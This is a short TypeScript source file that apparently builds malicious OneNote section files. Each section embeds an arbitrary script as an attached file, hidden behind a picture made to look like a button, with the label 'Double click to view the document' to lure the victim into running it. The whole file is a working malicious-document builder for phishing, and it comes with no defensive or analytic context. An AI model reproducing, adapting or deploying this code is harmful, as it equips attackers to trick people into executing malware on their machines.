/** Writes OneNote sections with an attached file under a picture that looks like a button. */

const SECTION = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')
const FILE = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex')
const FILE_END = Buffer.from('22a7fb71790f0b4abb13899256426b24', 'hex')
const PICTURE = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')

function file(data: Buffer): Buffer {
  const head = Buffer.alloc(36)
  FILE.copy(head)
  head.writeUInt32LE(data.length, 16)
  return Buffer.concat([head, data, Buffer.alloc((8 - (data.length % 8)) % 8), FILE_END])
}

export function note(name: string, script: string): Buffer {
  const named = Buffer.from(`<ifndf>{00000000}</ifndf>\0${name}\0`, 'utf16le')
  const label = Buffer.from('Double click to view the document\0', 'utf16le')
  return Buffer.concat([
    SECTION,
    Buffer.alloc(64),
    label,
    named,
    file(PICTURE),
    file(Buffer.from(script)),
    Buffer.alloc(32),
  ])
}
